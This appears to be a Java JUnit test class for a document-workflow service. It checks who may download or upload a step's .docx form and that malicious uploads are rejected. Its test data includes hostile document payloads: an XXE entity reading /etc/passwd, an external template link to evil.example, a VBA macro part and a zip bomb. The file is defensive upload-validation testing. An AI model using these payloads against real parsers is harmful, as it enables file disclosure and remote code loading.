package vn.phanbien.stories;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;

import vn.phanbien.document.SampleFiles;
import vn.phanbien.support.ApiReply;
import vn.phanbien.support.WordEdit;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * A form on file goes to nobody but those who may do the step, and nothing but the form
 * of just that step comes back.
 */
@SuppressWarnings("NullAway.Init")
abstract class OfflineFormWallsStory extends AskedExpert {

	@Autowired
	private JdbcClient database;

	@Test
	void refusesAFormOfAnotherCaseOrExpert() {
		SonLa sonLa = new SonLa(this.api);
		List<String> steps = sonLa.openSteps(this.caseNumber, "Task_SubmitCritique");
		byte[] own = form(this.expert);
		String other = sonLa.walkTo(sonLa.assigned("CRITIQUE"), "Task_SubmitCritique");
		byte[] elsewhere = this.api.as(SonLa.OFFICER).get("/work-items/" + other + "/form.docx").content();

		assertThat(code(upload(elsewhere))).isEqualTo("otherCase");
		assertThat(code(upload(WordEdit.body(WordEdit.part(own, "docProps/custom.xml", (xml) -> "<Properties/>"),
				(xml) -> xml.replaceAll("NX1\\.[\\w.]+", "")))))
			.isEqualTo("notOurs");
		steps.stream()
			.filter((one) -> !one.equals(this.step))
			.findFirst()
			.ifPresent((one) -> assertThat(
					code(this.api.as(SonLa.OFFICER).upload("/work-items/" + one + "/form.docx", FILE, own, Map.of())))
				.isEqualTo("otherPerson"));
		assertThat(read().path("draft").isNull()).isTrue();
	}

	@Test
	void showsNobodyAnotherPersonsDraft() {
		upload(WordEdit.write(form(this.expert), "s1", "Chỉ của tôi")).ok();
		String path = "/work-items/" + this.step + "/form.docx";

		this.api.as(SonLa.AUTHORITY).get(path).refused(404);
		this.api.as("th-chuyengia1").get(path).refused(404);
		this.api.as(SonLa.CLERK).get(path).refused(403);
		this.api.as("th-chuyengia1").upload(path, FILE, form(this.expert), Map.of()).refused(404);
		ApiReply secretarys = this.api.as(SonLa.OFFICER).get(path);
		assertThat(secretarys.status()).isEqualTo(200);
		assertThat(WordEdit.body(secretarys.content(), (xml) -> {
			assertThat(xml).doesNotContain("Chỉ của tôi");
			return xml;
		})).isNotEmpty();
	}

	static Stream<Arguments> attacks() {
		byte[] zeros = new byte[30 * 1024 * 1024];
		return Stream.of(Arguments.of("empty", FILE, new byte[0]),
				Arguments.of("notWord", "phieu.pdf", SampleFiles.pdf()),
				Arguments.of("wrongExtension", FILE, SampleFiles.pdf()),
				Arguments.of("macros", FILE, SampleFiles.docxWith("word/vbaProject.bin", new byte[] { 1 })),
				Arguments.of("zipBomb", FILE, SampleFiles.docxWith("word/media/image1.png", zeros)),
				Arguments.of("externalContent", FILE,
						SampleFiles.docxWith("word/_rels/settings.xml.rels",
								("<Relationships><Relationship Type=\"x/attachedTemplate\" TargetMode=\"External\""
										+ " Target=\"https://evil.example/t.dotm\"/></Relationships>")
									.getBytes(StandardCharsets.UTF_8))),
				Arguments.of("damaged", FILE,
						SampleFiles.docxWith("word/document.xml",
								"<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"
									.getBytes(StandardCharsets.UTF_8))),
				Arguments.of("typeNotAllowed", FILE, new byte[] { (byte) 0xd0, (byte) 0xcf, 0x11, (byte) 0xe0,
						(byte) 0xa1, (byte) 0xb1, 0x1a, (byte) 0xe1 }),
				Arguments.of("notOurs", FILE, SampleFiles.docx()));
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource("attacks")
	void storesNothingOfWhatIsNoForm(String reason, String name, byte[] content) {
		long before = documents();

		ApiReply reply = this.expert.upload("/work-items/" + this.step + "/form.docx", name, content, Map.of());

		assertThat(code(reply)).isEqualTo(reason);
		assertThat(documents()).isEqualTo(before);
		assertThat(read().path("draft").isNull()).isTrue();
	}

	@Test
	void hasNoFormForOtherSteps() {
		SonLa sonLa = new SonLa(this.api);
		String other = sonLa.walkTo(sonLa.assigned("CRITIQUE"), "Task_PreparePlan");

		this.api.as(SonLa.OFFICER).get("/work-items/" + other + "/form.docx").refused(404);
	}

	private long documents() {
		return this.database.sql("select count(*) from document where case_number = ?")
			.param(this.caseNumber)
			.query(Long.class)
			.single();
	}

}
